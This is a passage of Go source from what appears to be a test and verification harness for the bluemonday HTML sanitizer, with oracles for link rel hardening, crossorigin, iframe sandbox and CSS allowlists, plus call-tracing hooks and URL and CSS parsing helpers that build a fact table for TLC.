			if !hasRel || toks[tok] == 0 {
				fs = append(fs, Finding{"C11", "missing-" + tok, fmt.Sprintf("%s: rel lacks the token %s although %s", desc, tok, why)})
			}
		}
		if p.NoFollow || (p.NoFollowFQ && ext) {
			need("nofollow", "nofollow is required on this link")
		}
		if p.NoReferrer || (p.NoReferrerFQ && ext) {
			need("noreferrer", "noreferrer is required on this link")
		}
		tgt, hasT := firstAttr(et.After, "target")
		blank := et.N == "a" && hasT && tgt == "_blank"
		if et.N == "a" && p.TargetBlank && ext && !blank {
			fs = append(fs, Finding{"C11", "missing-target", fmt.Sprintf("%s: host-qualified href without target=\"_blank\"", desc)})
		}
		if blank {
			need("noopener", "the link ends up with target=\"_blank\"")
		}
		// existing tokens kept, required tokens not duplicated
		// ("existing" = the first rel attribute of the input that the policy admits; one the allowlist
		// removes was never going to be in the output)
		brel, ok := "", false
		for _, a := range et.Before {
			if a.K == "rel" && p.ruleAccepts(et.N, "rel", a.V) {
				brel, ok = a.V, true
				break
			}
		}
		if ok && hasRel {
			bt := relToks(brel)
			for t := range bt {
				if toks[t] == 0 {
					fs = append(fs, Finding{"C11", "lost-token", fmt.Sprintf("%s: existing rel token %q was not kept", desc, t)})
				}
			}
			for _, t := range []string{"nofollow", "noreferrer", "noopener"} {
				if toks[t] > 1 && toks[t] > bt[t] {
					fs = append(fs, Finding{"C11", "dup-" + t, fmt.Sprintf("%s: required token %s was duplicated", desc, t)})
				}
			}
		} else if hasRel {
			for _, t := range []string{"nofollow", "noreferrer", "noopener"} {
				if toks[t] > 1 {
					fs = append(fs, Finding{"C11", "dup-" + t, fmt.Sprintf("%s: required token %s was duplicated", desc, t)})
				}
			}
		}
	}
	return fs
}

func attrsString(as []Attr) string {
	s := ""
	for _, a := range as {
		s += fmt.Sprintf(" %s=%q", a.K, a.V)
	}
	return s
}

// ---------------------------------------------------------------------------
// C12
func oracleC12(x *Exec) []Finding {
	p := x.Model // (AllowUnsafe policies included: script, which the property names, is only ever emitted under them)
	var fs []Finding
	for _, t := range x.OutToks {
		if (t.T != "start" && t.T != "self") || len(t.A) == 0 {
			continue
		}
		if p.CrossOrigin && crossEls[t.N] {
			n := 0
			for _, a := range t.A {
				if a.K == "crossorigin" {
					n++
					if a.V != "anonymous" {
						fs = append(fs, Finding{"C12", "crossorigin-value", fmt.Sprintf("<%s%s>: crossorigin=%q", t.N, attrsString(t.A), a.V)})
					}
				}
			}
			if n == 0 {
				fs = append(fs, Finding{"C12", "crossorigin-missing", fmt.Sprintf("<%s%s>: no crossorigin attribute", t.N, attrsString(t.A))})
			}
		}
		if p.SandboxOn && t.N == "iframe" {
			n := 0
			for _, a := range t.A {
				if a.K != "sandbox" {
					continue
				}
				n++
				seen := map[string]bool{}
				for _, tok := range strings.Fields(a.V) {
					if !inSet(p.Sandbox, tok) {
						fs = append(fs, Finding{"C12", "sandbox-unlisted", fmt.Sprintf("<iframe%s>: sandbox token %q is not listed by the policy %v", attrsString(t.A), tok, p.Sandbox)})
					}
					if seen[tok] {
						fs = append(fs, Finding{"C12", "sandbox-dup", fmt.Sprintf("<iframe%s>: sandbox token %q duplicated", attrsString(t.A), tok)})
					}
					seen[tok] = true
				}
			}
			if n == 0 {
				fs = append(fs, Finding{"C12", "sandbox-missing", fmt.Sprintf("<iframe%s>: no sandbox attribute", attrsString(t.A))})
			}
		}
	}
	return fs
}

// ---------------------------------------------------------------------------
// C10
func oracleC10(x *Exec) []Finding {
	p := x.Model
	if p.Unsafe {
		return nil
	}
	var fs []Finding
	for _, et := range emittedTags(x) {
		if !p.hasStyleRules(et.N) {
			continue
		}
		for _, a := range et.After {
			if a.K != "style" {
				continue
			}
			decls := CSSSplitW(a.V)
			if len(decls) == 0 {
				fs = append(fs, Finding{"C10", "empty-style", fmt.Sprintf("<%s style=%q> emitted with nothing left in it", et.N, a.V)})
			}
			for _, d := range decls {
				lp := StripOneVendor(d.Prop)
				ids := p.styleRuleIDs(et.N, lp)
				if len(ids) == 0 {
					fs = append(fs, Finding{"C10", "prop:" + lp, fmt.Sprintf("<%s style=%q>: property %q is not allowlisted for this element", et.N, a.V, d.Prop)})
					continue
				}
				v1 := CSSDecode(strings.ToLower(d.Value))
				v2 := strings.ToLower(CSSDecode(d.Value))
				ok := false
				for _, id := range ids {
					m := StyleMatcher(id)
					if m(v1) || m(v2) {
						ok = true
					}
				}
				if !ok {
					fs = append(fs, Finding{"C10", "value:" + lp, fmt.Sprintf("<%s style=%q>: declaration %s: %s — a browser reads the value as %q, which no matcher registered for %q accepts", et.N, a.V, d.Prop, d.Value, v1, lp)})
				}
			}
		}
		// completeness on cleanly parseable input without escapes: allowed declarations are kept, in order
		for _, b := range et.Before {
			if b.K != "style" || strings.Contains(b.V, "\\") || strings.Contains(b.V, "/*") || (p.DataAttrs && IsDataAttr(b.K)) {
				continue
			}
			cf := DouceurDecls(b.V)
			w := CSSSplitW(b.V)
			if cf.Err || len(cf.Decls) != len(w) {
				continue
			}
			clean := true
			want := []string{}
			for i, d := range cf.Decls {
				if d.P != w[i].Prop || d.V != w[i].Value {
					clean = false
					break
				}
				for _, id := range p.styleRuleIDs(et.N, StripOneVendor(d.P)) {
					if StyleMatcher(id)(strings.ToLower(d.V)) {
						want = append(want, d.P+": "+d.V)
						break
					}
				}
			}
			if !clean {
				continue
			}
			got, has := "", false
			for _, a := range et.After {
				if a.K == "style" {
					got, has = a.V, true
					break
				}
			}
			if exp := strings.Join(want, "; "); (has && got != exp) || (!has && exp != "") {
				// only the first style attribute of the input corresponds to the first of the output
				first := true
				for _, bb := range et.Before {
					if bb.K == "style" {
						first = bb == b
						break
					}
				}
				if first && countKey(et.Before, "style") == 1 {
					fs = append(fs, Finding{"C10", "kept", fmt.Sprintf("<%s style=%q>: expected the allowed declarations %q in order, got %q", et.N, b.V, exp, got)})
				}
			}
		}
	}
	return fs
}

func countKey(as []Attr, k string) int {
	n := 0
	for _, a := range as {
		if a.K == k {
			n++
		}
	}
	return n
}

func init() {
	Oracles["C02"] = oracleC02
	Oracles["C03"] = oracleC03
	Oracles["C10"] = oracleC10
	Oracles["C11"] = oracleC11
	Oracles["C12"] = oracleC12
}
