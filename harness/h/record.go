package h

import (
	"bytes"
	"fmt"
	"io"
	"strings"
	"sync"

	bm "github.com/microcosm-cc/bluemonday"
	"golang.org/x/net/html"
)

// Ev is one line of a recorded trace.
type Ev map[string]interface{}

// TokEvent is what the Tok hook saw plus what happened while the token was processed.
type TokEvent struct {
	Tok     Tok
	Pre     LoopState
	SkipClo bool
	Called  bool   // sanitizeAttrs was called
	Before  []Attr // its argument
	After   []Attr // its result
	Writes  []Write
}

// Write is one WriteString of the loop.
type Write struct {
	S   string // bytes written
	Tok Tok    // classification
	Err bool   // the write failed
}

// CallRec is the record of one sanitize() execution.
type CallRec struct {
	ID        int
	Pid       int // which policy of the session (1 unless the session builds several)
	Toks      []*TokEvent
	Final     LoopState
	Ended     bool
	Panic     string
	cur       *html.Token
	curEv     *TokEvent
	WriteHook func(s string) error // optional fault injection: return non-nil to fail the write
	Gate      func(c *CallRec)     // optional scheduler gate, called at every token
}

var (
	recMu    sync.Mutex
	recByRd  = map[io.Reader]*CallRec{}
	recCur   *CallRec // sequential fallback when the reader is not registered
	hooksSet bool
)

func lookup(r io.Reader) *CallRec {
	recMu.Lock()
	defer recMu.Unlock()
	if c, ok := recByRd[r]; ok {
		return c
	}
	return recCur
}

// Register associates a reader with a call record (for concurrent runs).
func Register(r io.Reader, c *CallRec) {
	recMu.Lock()
	recByRd[r] = c
	recMu.Unlock()
}

func Unregister(r io.Reader) {
	recMu.Lock()
	delete(recByRd, r)
	recMu.Unlock()
}

// SetCurrent sets the record used by calls whose reader is not registered.
func SetCurrent(c *CallRec) {
	recMu.Lock()
	recCur = c
	recMu.Unlock()
}

func copyAttrs(as []html.Attribute) []Attr {
	out := make([]Attr, 0, len(as))
	for _, a := range as {
		k := a.Key
		if a.Namespace != "" {
			k = a.Namespace + ":" + a.Key
		}
		out = append(out, Attr{k, a.Val})
	}
	return out
}

type hookWriter struct {
	c *CallRec
	w bm.VerifStringWriter
}

func (h *hookWriter) Write(p []byte) (int, error) { return h.WriteString(string(p)) }

func (h *hookWriter) WriteString(s string) (int, error) {
	c := h.c
	wr := Write{S: s, Tok: classify(c, s)}
	var err error
	n := 0
	if c.WriteHook != nil {
		err = c.WriteHook(s)
	}
	if err == nil {
		n, err = h.w.WriteString(s)
	}
	wr.Err = err != nil
	if c.curEv != nil {
		c.curEv.Writes = append(c.curEv.Writes, wr)
	}
	return n, err
}

// classify names what a written string is, relative to the token being processed.
func classify(c *CallRec, s string) Tok {
	t := c.cur
	if t == nil {
		return Tok{T: "other", D: s, A: []Attr{}}
	}
	switch t.Type {
	case html.TextToken:
		// esc: the escaped form was written; raw: the data was written as is
		esc, raw := s == t.String(), s == t.Data
		switch {
		case esc && raw:
			return Tok{T: "chars", D: t.Data, A: []Attr{}}
		case esc:
			return Tok{T: "text", D: t.Data, A: []Attr{}}
		case raw:
			return Tok{T: "raw", D: t.Data, A: []Attr{}}
		}
	case html.CommentToken:
		if s == t.String() {
			return Tok{T: "comment", D: t.Data, A: []Attr{}}
		}
	case html.StartTagToken, html.EndTagToken, html.SelfClosingTagToken:
		if s == t.String() {
			k := TokOf(*t)
			return k
		}
		if s == " " {
			return Tok{T: "space", A: []Attr{}}
		}
	}
	return Tok{T: "other", D: s, A: []Attr{}}
}

// InstallHooks installs the recording hooks (idempotent).
func InstallHooks() {
	if hooksSet {
		return
	}
	hooksSet = true
	bm.VerifHooks.Writer = func(r io.Reader, w bm.VerifStringWriter) bm.VerifStringWriter {
		c := lookup(r)
		if c == nil {
			return w
		}
		return &hookWriter{c: c, w: w}
	}
	bm.VerifHooks.Tok = func(r io.Reader, t *html.Token, skip bool, cnt int64, skipClosing bool, stack []string, mrst string) {
		c := lookup(r)
		if c == nil {
			return
		}
		ev := &TokEvent{Tok: TokOf(*t), Pre: LoopState{skip, cnt, append([]string{}, stack...), mrst}, SkipClo: skipClosing}
		c.Toks = append(c.Toks, ev)
		c.cur, c.curEv = t, ev
		if c.Gate != nil {
			c.Gate(c)
		}
	}
	bm.VerifHooks.End = func(r io.Reader, skip bool, cnt int64, skipClosing bool, stack []string, mrst string) {
		c := lookup(r)
		if c == nil {
			return
		}
		c.Final = LoopState{skip, cnt, append([]string{}, stack...), mrst}
		c.Ended = true
		c.cur, c.curEv = nil, nil
	}
	bm.VerifHooks.AttrsIn = func(r io.Reader, el string, attrs []html.Attribute) {
		c := lookup(r)
		if c == nil || c.curEv == nil {
			return
		}
		c.curEv.Called = true
		c.curEv.Before = copyAttrs(attrs)
	}
	bm.VerifHooks.AttrsOut = func(r io.Reader, attrs []html.Attribute) {
		c := lookup(r)
		if c == nil || c.curEv == nil {
			return
		}
		c.curEv.After = copyAttrs(attrs)
	}
}

// RunRecorded runs p.Sanitize-equivalent (SanitizeReader on the bytes) with recording on.
func RunRecorded(p *bm.Policy, input []byte) (rec *CallRec, out []byte) {
	InstallHooks()
	rec = &CallRec{Pid: 1}
	SetCurrent(rec)
	defer SetCurrent(nil)
	defer func() {
		if e := recover(); e != nil {
			rec.Panic = fmt.Sprint(e)
		}
	}()
	out = p.SanitizeReader(bytes.NewReader(input)).Bytes()
	return rec, out
}

// WritesConcat is the concatenation of all successful writes of a call.
func (c *CallRec) WritesConcat() string {
	var b strings.Builder
	for _, t := range c.Toks {
		for _, w := range t.Writes {
			if !w.Err {
				b.WriteString(w.S)
			}
		}
	}
	return b.String()
}

func encState(s LoopState) (bool, int64, []string, string) {
	return s.Skip, s.Cnt, EncStrs(s.Stack), Enc(s.Mrst)
}

// TraceEvents renders the call as trace lines (call, tok*, ret).
func (c *CallRec) TraceEvents(id int, entry string, errored bool) []Ev {
	return c.TraceEventsIO(id, entry, errored, false)
}

// TraceEventsIO: rerr = the source reader was scripted to fail.
func (c *CallRec) TraceEventsIO(id int, entry string, errored, rerr bool) []Ev {
	evs := []Ev{{"ev": "call", "c": id, "pid": c.Pid, "entry": entry}}
	for _, t := range c.Toks {
		sk, cnt, stack, mrst := encState(t.Pre)
		ws := []Tok{}
		werr := false
		for _, w := range t.Writes {
			ws = append(ws, EncTok(w.Tok))
			werr = w.Err
		}
		after := EncAttrs(t.After)
		evs = append(evs, Ev{"ev": "tok", "c": id, "tok": EncTok(t.Tok), "skip": sk, "cnt": cnt, "stack": stack,
			"mrst": mrst, "called": t.Called, "after": after, "writes": ws, "werr": werr})
	}
	sk, cnt, stack, mrst := encState(c.Final)
	evs = append(evs, Ev{"ev": "ret", "c": id, "err": errored, "rerr": rerr, "skip": sk, "cnt": cnt, "stack": stack, "mrst": mrst,
		"panic": c.Panic != "", "ended": c.Ended})
	return evs
}
