package h

import "strings"

// URLClassW classifies an attribute value the way a browser's URL parser
// starts (WHATWG URL, "basic URL parser"): strip leading and trailing C0
// control or space, remove ASCII tab and newline everywhere, then a scheme is
// ALPHA *( ALPHA / DIGIT / "+" / "-" / "." ) ":" at the very start.
// It shares no code with net/url.
func URLClassW(v string) (kind, scheme string) {
	s := strings.TrimFunc(v, func(r rune) bool { return r <= 0x20 })
	s = strings.Map(func(r rune) rune {
		if r == '\t' || r == '\n' || r == '\r' {
			return -1
		}
		return r
	}, s)
	if s == "" {
		return "empty", ""
	}
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c >= 'a' && c <= 'z', c >= 'A' && c <= 'Z':
			continue
		case i > 0 && (c >= '0' && c <= '9' || c == '+' || c == '-' || c == '.'):
			continue
		case i > 0 && c == ':':
			return "scheme", asciiLower(s[:i])
		}
		break
	}
	return "relative", ""
}

// HasHostW: does the (browser-read) URL name a host?  scheme://host or //host.
func HasHostW(v string) bool {
	s := strings.TrimFunc(v, func(r rune) bool { return r <= 0x20 })
	kind, scheme := URLClassW(s)
	rest := s
	if kind == "scheme" {
		rest = s[len(scheme)+1:]
	}
	rest = strings.ReplaceAll(rest, "\\", "/")
	if !strings.HasPrefix(rest, "//") {
		return false
	}
	rest = rest[2:]
	end := strings.IndexAny(rest, "/?#")
	if end >= 0 {
		rest = rest[:end]
	}
	if at := strings.LastIndex(rest, "@"); at >= 0 {
		rest = rest[at+1:]
	}
	return rest != ""
}

// CSSDeclW is one declaration as a browser splits a style attribute.
type CSSDeclW struct {
	Prop  string // as written, trimmed
	Value string // as written, trimmed, without a trailing !important
}

// CSSSplitW splits a style attribute value into declarations the way a
// browser does: ';' separates declarations except inside strings, (...)
// blocks, comments or after a backslash; the first ':' ends the property.
func CSSSplitW(s string) []CSSDeclW {
	var decls []CSSDeclW
	var cur strings.Builder
	flush := func() {
		d := cur.String()
		cur.Reset()
		i := strings.Index(d, ":")
		if i < 0 {
			return
		}
		prop := strings.TrimSpace(d[:i])
		val := strings.TrimSpace(d[i+1:])
		if prop == "" {
			return
		}
		if j := strings.LastIndex(val, "!"); j >= 0 && strings.EqualFold(strings.TrimSpace(val[j+1:]), "important") {
			val = strings.TrimSpace(val[:j])
		}
		decls = append(decls, CSSDeclW{prop, val})
	}
	depth := 0
	for i := 0; i < len(s); i++ {
		c := s[i]
		switch {
		case c == '\\' && i+1 < len(s):
			cur.WriteByte(c)
			i++
			cur.WriteByte(s[i])
		case c == '/' && i+1 < len(s) && s[i+1] == '*':
			// a comment produces no token but it does separate the tokens around it: r/**/ed is two identifiers, not "red"
			end := strings.Index(s[i+2:], "*/")
			if cs := cur.String(); len(cs) > 0 && cs[len(cs)-1] != ' ' && cs[len(cs)-1] != ':' {
				cur.WriteByte(' ')
			}
			if end < 0 {
				i = len(s)
			} else {
				i += 2 + end + 1
			}
		case c == '"' || c == '\'':
			q := c
			cur.WriteByte(c)
			for i++; i < len(s); i++ {
				cur.WriteByte(s[i])
				if s[i] == '\\' && i+1 < len(s) {
					i++
					cur.WriteByte(s[i])
					continue
				}
				if s[i] == q || s[i] == '\n' {
					break
				}
			}
		case c == '(' || c == '[' || c == '{':
			depth++
			cur.WriteByte(c)
		case (c == ')' || c == ']' || c == '}') && depth > 0:
			depth--
			cur.WriteByte(c)
		case c == ';' && depth == 0:
			flush()
		default:
			cur.WriteByte(c)
		}
	}
	flush()
	return decls
}

// StripOneVendor lower-cases a property and removes one vendor prefix.
func StripOneVendor(prop string) string {
	p := strings.ToLower(prop)
	for _, pre := range vendorPrefixes {
		if strings.HasPrefix(p, pre) {
			return p[len(pre):]
		}
	}
	return p
}
