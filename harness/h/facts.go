package h

import (
	"net/url"
	"regexp"
	"strconv"
	"strings"

	"github.com/aymerick/douceur/parser"
)

// UrlFact is what net/url says about a value, in the terms validURL uses.
type UrlFact struct {
	Ws     bool   `json:"ws"`
	Data   bool   `json:"data"`
	Perr   bool   `json:"perr"`
	Scheme string `json:"scheme"`
	Norm   string `json:"norm"`
	Empty  bool   `json:"empty"`
}

type DeclFact struct {
	P  string `json:"p"`
	V  string `json:"v"`
	LP string `json:"lp"`
	DV string `json:"dv"`
}

type CssFact struct {
	Err   bool       `json:"err"`
	Decls []DeclFact `json:"decls"`
}

// Facts is the fact table handed to TLC (all strings encoded with Enc).
type Facts struct {
	Pat       map[string]map[string]bool   `json:"pat"`
	M         map[string]map[string]bool   `json:"m"`
	IsData    map[string]bool              `json:"isdata"`
	Norm      map[string]string            `json:"norm"`
	Lower     map[string]string            `json:"lower"`
	Url       map[string]UrlFact           `json:"url"`
	Host      map[string]bool              `json:"host"`
	Custom    map[string]map[string]bool   `json:"custom"`
	SchemePat map[string]map[string]bool   `json:"schemepat"`
	Rewrite   map[string]map[string]string `json:"rewrite"`
	Fields    map[string][]string          `json:"fields"`
	LFields   map[string][]string          `json:"lfields"`
	Css       map[string]CssFact           `json:"css"`
	SM        map[string]map[string]bool   `json:"sm"`
	DefH      map[string]string            `json:"defh"`
	// oracle facts: how a browser reads a value (independent of net/url and douceur)
	UrlW map[string]UrlWFact    `json:"urlw"`
	CssW map[string][]DeclWFact `json:"cssw"`
}

type UrlWFact struct {
	Kind   string `json:"kind"`
	Scheme string `json:"scheme"`
}

type DeclWFact struct {
	LP string `json:"lp"`
	DV string `json:"dv"`
}

func NewFacts() *Facts {
	return &Facts{
		Pat: map[string]map[string]bool{}, M: map[string]map[string]bool{}, IsData: map[string]bool{},
		Norm: map[string]string{}, Lower: map[string]string{}, Url: map[string]UrlFact{}, Host: map[string]bool{},
		Custom: map[string]map[string]bool{}, SchemePat: map[string]map[string]bool{},
		Rewrite: map[string]map[string]string{}, Fields: map[string][]string{}, LFields: map[string][]string{},
		Css: map[string]CssFact{}, SM: map[string]map[string]bool{}, DefH: map[string]string{},
		UrlW: map[string]UrlWFact{}, CssW: map[string][]DeclWFact{},
	}
}

// set2 records m[id][string]: ids (regexp sources, function names) are used verbatim, exactly as they
// appear in policy snapshots; the strings they are applied to are encoded like everything in a trace.
func set2(m map[string]map[string]bool, a, b string, v bool) {
	b = Enc(b)
	if m[a] == nil {
		m[a] = map[string]bool{}
	}
	m[a][b] = v
}

// NormName is the harness' statement of normaliseElementName.
func NormName(n string) string {
	q := strconv.QuoteToASCII(n)
	return strings.ToLower(q[1 : len(q)-1])
}

// IsDataAttr: the documented shape of a data-* attribute name — "data-"
// followed by at least one character, the rest not starting with "xml"
// (followed by more), and without upper-case ASCII letters or semicolons.
func IsDataAttr(k string) bool {
	if !strings.HasPrefix(k, "data-") || len(k) <= 5 {
		return false
	}
	rest := k[5:]
	if strings.HasPrefix(rest, "xml") && len(rest) > 3 {
		return false
	}
	for i := 0; i < len(rest); i++ {
		if rest[i] == ';' || (rest[i] >= 'A' && rest[i] <= 'Z') {
			return false
		}
	}
	return true
}

var b64prefix = regexp.MustCompile(`^data:[^,]*;base64,`)

// ParseLikeValidURL performs the syntactic part of validURL with net/url.
func ParseLikeValidURL(v string) (UrlFact, *url.URL) {
	raw := strings.TrimSpace(v)
	f := UrlFact{}
	f.Ws = strings.ContainsAny(raw, " \t\n")
	f.Data = strings.HasPrefix(raw, "data:")
	if f.Ws && f.Data {
		if m := b64prefix.FindString(raw); m != "" {
			raw = m + strings.ReplaceAll(strings.ReplaceAll(raw[len(m):], "\r", ""), "\n", "")
		}
	}
	u, err := url.Parse(raw)
	if err != nil {
		f.Perr = true
		return f, nil
	}
	f.Scheme = u.Scheme
	f.Norm = strings.TrimSpace(u.String()) // String() drops an empty fragment; white space in front of it is trimmed like the rest
	f.Empty = f.Norm == ""
	return f, u
}

// hostOf: link hardening treats an href as external when net/url finds a host in it, or cannot parse it at all.
func hostOf(v string) bool {
	u, err := url.Parse(strings.TrimSpace(v)) // white space around the value is ignored, as a browser does
	return err != nil || u.Host != ""
}

var vendorPrefixes = []string{"-webkit-", "-moz-", "-ms-", "-o-", "mso-", "-xv-", "-atsc-", "-wap-", "-khtml-", "prince-", "-ah-", "-hp-", "-ro-", "-rim-", "-tc-"}

// StripVendor lower-cases a property name and removes vendor prefixes.
func StripVendor(prop string) string {
	p := strings.ToLower(prop)
	for _, pre := range vendorPrefixes {
		p = strings.TrimPrefix(p, pre)
	}
	return p
}

// DouceurDecls parses a style attribute value the way sanitizeStyles does.
func DouceurDecls(v string) CssFact {
	s := strings.TrimRight(v, " ")
	if len(s) > 0 && s[len(s)-1] != ';' {
		s += ";"
	}
	decs, err := parser.ParseDeclarations(s)
	if err != nil {
		return CssFact{Err: true, Decls: []DeclFact{}}
	}
	out := CssFact{Decls: []DeclFact{}}
	for _, d := range decs {
		out.Decls = append(out.Decls, DeclFact{P: d.Property, V: d.Value, LP: StripVendor(d.Property), DV: CSSDecode(strings.ToLower(d.Value))})
	}
	return out
}

func (f *Facts) addName(p *AP, n string) {
	if nn := NormName(n); nn != n {
		f.Norm[Enc(n)] = Enc(nn)
	}
	for pat := range p.PatAttrs {
		set2(f.Pat, pat, n, ReOf(pat).MatchString(n))
	}
	for _, pat := range p.BarePat {
		set2(f.Pat, pat, n, ReOf(pat).MatchString(n))
	}
	for pat := range p.PatStyles {
		set2(f.Pat, pat, n, ReOf(pat).MatchString(n))
	}
}

func (p *AP) allAttrIDs(k string) []string {
	ids := []string{}
	for _, r := range p.ElAttrs {
		ids = append(ids, r[k]...)
	}
	for _, r := range p.PatAttrs {
		ids = append(ids, r[k]...)
	}
	ids = append(ids, p.GlobalAttrs[k]...)
	return addSet(nil, ids...)
}

func (p *AP) allStyleIDs(prop string) []string {
	ids := []string{}
	for _, r := range p.ElStyles {
		ids = append(ids, r[prop]...)
	}
	for _, r := range p.PatStyles {
		ids = append(ids, r[prop]...)
	}
	ids = append(ids, p.GlobalStyles[prop]...)
	return addSet(nil, ids...)
}

func (p *AP) hasAnyStyleRules() bool {
	return len(p.GlobalStyles) > 0 || len(p.ElStyles) > 0 || len(p.PatStyles) > 0
}

// AddPolicy adds the facts the property definitions consult for a policy on their own
// (is a raw-text element allowed?).
func (f *Facts) AddPolicy(p *AP) {
	for n := range RawEls {
		f.addName(p, n)
	}
}

// AddTag adds every fact the specification may consult for tag (n, attrs) under p.
func (f *Facts) AddTag(p *AP, n string, attrs []Attr) {
	f.addName(p, n)
	for _, a := range attrs {
		f.IsData[Enc(a.K)] = IsDataAttr(a.K)
		for _, id := range p.allAttrIDs(a.K) {
			if id != "ANY" {
				set2(f.M, id, a.V, MatchAttr(id, a.V))
			}
		}
		switch a.K {
		case "href", "cite", "src":
			f.addURL(p, a.V)
		case "rel":
			f.addRelClosure(a.V)
		case "sandbox":
			f.addFields(a.V)
			keep, seen := []string{}, map[string]bool{}
			for _, t := range strings.Fields(a.V) {
				if inSet(p.Sandbox, t) && !seen[t] {
					seen[t] = true
					keep = append(keep, t)
				}
			}
			f.addFields(strings.Join(keep, " "))
			f.addFields("")
		case "style":
			if p.hasAnyStyleRules() {
				f.addCSS(p, a.V)
			}
		}
	}
	f.addRelClosure("")
	f.addFields("")
}

func (f *Facts) addFields(v string) { f.Fields[Enc(v)] = EncStrs(strings.Fields(v)) }

func (f *Facts) addLFields(v string) {
	f.LFields[Enc(v)] = EncStrs(strings.Fields(strings.ToLower(v)))
}

// addRelClosure: the token lists of a rel value and of every value link hardening can make of it.
func (f *Facts) addRelClosure(v string) {
	base := []string{v, v + " nofollow", v + " noreferrer", v + " nofollow noreferrer"}
	if v == "" {
		base = append(base, "nofollow", "noreferrer", "nofollow noreferrer", "noopener")
	}
	for _, b := range base {
		f.addLFields(b)
		f.addLFields(b + " noopener")
	}
}

// AddAfter adds the oracle facts for attributes the real code emitted.
func (f *Facts) AddAfter(p *AP, n string, after []Attr) {
	for _, a := range after {
		switch a.K {
		case "rel":
			f.addLFields(a.V)
		case "sandbox":
			f.addFields(a.V)
		case "href", "cite", "src":
			f.addURLW(a.V)
			f.Host[Enc(a.V)] = hostOf(a.V)
		case "style":
			if p.hasAnyStyleRules() {
				f.addCSSW(p, a.V)
			}
		}
	}
}

func (f *Facts) addURLW(v string) {
	k, s := URLClassW(v)
	f.UrlW[Enc(v)] = UrlWFact{k, Enc(s)}
}

func (f *Facts) addCSSW(p *AP, v string) {
	out := []DeclWFact{}
	for _, d := range CSSSplitW(v) {
		lp, dv := StripOneVendor(d.Prop), CSSDecode(strings.ToLower(d.Value))
		out = append(out, DeclWFact{Enc(lp), Enc(dv)})
		for _, id := range p.allStyleIDs(lp) {
			set2(f.SM, id, dv, StyleMatcher(id)(dv))
		}
	}
	f.CssW[Enc(v)] = out
}

func (f *Facts) addURL(p *AP, v string) { f.addURLd(p, v, 0) }

func (f *Facts) addURLd(p *AP, v string, depth int) {
	uf, u := ParseLikeValidURL(v)
	enc := uf
	enc.Scheme, enc.Norm = Enc(uf.Scheme), Enc(uf.Norm)
	f.Url[Enc(v)] = enc
	f.Host[Enc(v)] = hostOf(v)
	f.addURLW(v)
	if u == nil {
		return
	}
	f.Host[Enc(uf.Norm)] = hostOf(uf.Norm)
	f.addURLW(uf.Norm)
	defer func() {
		if uf.Norm != v && depth < 2 {
			f.addURLd(p, uf.Norm, depth+1) // what a second pass would consult
		}
	}()
	for _, fid := range p.Schemes[uf.Scheme] {
		pol, ok := URLPols[fid]
		if !ok {
			if fid == Vocab.DataURIImagesFunc {
				pol = DataURIImagesPolicy
			} else {
				panic("facts: unknown url policy " + fid)
			}
		}
		cp := *u
		set2(f.Custom, fid, v, pol(&cp))
	}
	for _, r := range p.SchemePats {
		set2(f.SchemePat, r, uf.Scheme, ReOf(r).MatchString(uf.Scheme))
	}
	if p.Rewriter != "" {
		ru, err := url.Parse(uf.Norm)
		if err == nil {
			Rewriters[p.Rewriter](ru)
			fr := p.Rewriter
			if f.Rewrite[fr] == nil {
				f.Rewrite[fr] = map[string]string{}
			}
			f.Rewrite[fr][Enc(uf.Norm)] = Enc(ru.String())
			f.Host[Enc(ru.String())] = hostOf(ru.String())
			f.addURLW(ru.String())
		}
	}
}

func (f *Facts) addCSS(p *AP, v string) { f.addCSSd(p, v, 0) }

func (f *Facts) addCSSd(p *AP, v string, depth int) {
	cf := DouceurDecls(v)
	enc := CssFact{Err: cf.Err, Decls: []DeclFact{}}
	for _, d := range cf.Decls {
		enc.Decls = append(enc.Decls, DeclFact{Enc(d.P), Enc(d.V), Enc(d.LP), Enc(d.DV)})
		for _, id := range p.allStyleIDs(d.LP) {
			set2(f.SM, id, d.DV, StyleMatcher(id)(d.DV))
		}
	}
	f.Css[Enc(v)] = enc
	// every style value the filter can produce from v: the joins of the subsequences of its declarations
	if n := len(cf.Decls); n <= 6 {
		for mask := 0; mask < 1<<n; mask++ {
			parts := []string{}
			for i, d := range cf.Decls {
				if mask&(1<<i) != 0 {
					parts = append(parts, d.P+": "+d.V)
				}
			}
			j := strings.Join(parts, "; ")
			f.addCSSW(p, j)
			if depth == 0 && j != v {
				f.addCSSd(p, j, 1) // what a second pass would consult
			}
		}
	}
}

// AddRecipe adds the facts builder calls consult (lower-casing, default handlers).
func (f *Facts) AddRecipe(r Recipe) {
	low := func(ss []string) {
		for _, s := range ss {
			if l := strings.ToLower(s); l != s {
				f.Lower[Enc(s)] = Enc(l)
			}
		}
	}
	for _, c := range r {
		low(c.Names)
		low(c.Attrs)
		low(c.Els)
		low(c.Props)
		low(c.Schemes)
		low([]string{c.Scheme})
		if c.M == "AllowStyles" {
			for _, pr := range c.Props {
				f.DefH[Enc(strings.ToLower(pr))] = Enc(DefHandlerID(strings.ToLower(pr)))
			}
		}
	}
}
