package h

import (
	"bytes"
	"io"
	"strings"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// TokOf converts an x/net/html token into the abstract form.
func TokOf(t html.Token) Tok {
	as := make([]Attr, 0, len(t.Attr))
	for _, a := range t.Attr {
		k := a.Key
		if a.Namespace != "" {
			k = a.Namespace + ":" + a.Key
		}
		as = append(as, Attr{k, a.Val})
	}
	switch t.Type {
	case html.StartTagToken:
		return Tok{T: "start", N: t.Data, A: as}
	case html.EndTagToken:
		return Tok{T: "end", N: t.Data, A: []Attr{}}
	case html.SelfClosingTagToken:
		return Tok{T: "self", N: t.Data, A: as}
	case html.TextToken:
		return Tok{T: "text", D: t.Data, A: []Attr{}}
	case html.CommentToken:
		return Tok{T: "comment", D: t.Data, A: []Attr{}}
	case html.DoctypeToken:
		return Tok{T: "doctype", D: t.Data, A: []Attr{}}
	}
	return Tok{T: "error", A: []Attr{}}
}

// Tokens reads a byte string with the HTML5 tokenizer.
func Tokens(b []byte) []Tok {
	z := html.NewTokenizer(bytes.NewReader(b))
	out := []Tok{}
	for {
		if z.Next() == html.ErrorToken {
			if z.Err() != io.EOF {
				out = append(out, Tok{T: "error", D: z.Err().Error(), A: []Attr{}})
			}
			return out
		}
		out = append(out, TokOf(z.Token()))
	}
}

// TextOf is the concatenated character data of a token list.
func TextOf(toks []Tok) string {
	var b strings.Builder
	for _, t := range toks {
